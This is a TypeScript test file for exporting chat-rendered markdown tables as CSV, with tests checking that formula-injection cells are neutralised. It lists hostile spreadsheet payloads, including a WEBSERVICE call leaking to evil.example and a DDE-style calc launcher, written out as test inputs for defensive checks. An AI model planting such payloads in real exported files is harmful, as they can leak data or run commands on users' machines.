// @vitest-environment happy-dom
import { expect, test } from "vitest";
import { createFinishedAnswer } from "../../../../../../media/chat/markdown/answer.ts";
import { tableToCsv } from "../../../../../../media/chat/markdown/final/tableCsv.ts";
import { createTools } from "../rendering.ts";

function csvOf(markdown: string): string {
	const { element } = createFinishedAnswer(markdown, createTools());
	const table = element.querySelector("table");
	if (!table) {
		throw new Error("There is no table.");
	}
	return tableToCsv(table);
}

test("A table is copied as RFC 4180 has it: quotes where they are needed, lines that end in CR LF", () => {
	expect(csvOf('| a | b, c |\n|---|---|\n| 1 | say "hi" |\n| **bold** `code` | |')).toBe(
		'a,"b, c"\r\n1,"say ""hi"""\r\nbold code,\r\n',
	);
});

test("A link is copied as the words that are shown", () => {
	expect(csvOf("| a |\n|---|\n| [docs](https://example.com/x) |\n| [x](http://h) |")).toBe(
		"a\r\ndocs\r\nx (http://h)\r\n",
	);
});

test.each([
	"=1+1",
	'=WEBSERVICE("https://evil.example/?leak")',
	'=HYPERLINK("https://evil.example")',
	"@SUM(A1)",
	"+cmd",
	"-2+3",
	"-cmd\\|' /C calc'!A0",
	"+1+cmd",
])("T16: a spreadsheet gets %j as text, not as a formula", cell => {
	const [, row = ""] = csvOf(`| a |\n|---|\n| ${cell} |`).split("\r\n");
	expect(row.replace(/^"/, "")).toMatch(/^'[=@+-]/);
});

test.each(["a;=1+1", "a; @SUM(A1)", "a\t=1+1", "1;-2+3;+cmd"])(
	"T16: no part of %j is a formula where a spreadsheet splits at semicolons or tabs",
	cell => {
		const [, row = ""] = csvOf(`| a | b |\n|---|---|\n| x | ${cell} |`).split("\r\n");
		expect(row.split(/[;\t]/).filter(part => /^\s*[=+\-@]/.test(part))).toEqual([]);
		expect(row).toMatch(/^x,".*"$/);
	},
);

test.each(["-5", "+3.5", "-1,234.50", "-12 %", "- 4", "-1e-9", "-3 €", "5", "a=b", "2026-01-01"])(
	"The value %j stays as it is",
	cell => {
		const [, row = ""] = csvOf(`| a |\n|---|\n| ${cell} |`).split("\r\n");
		expect(row.replaceAll('"', "")).toBe(cell);
	},
);
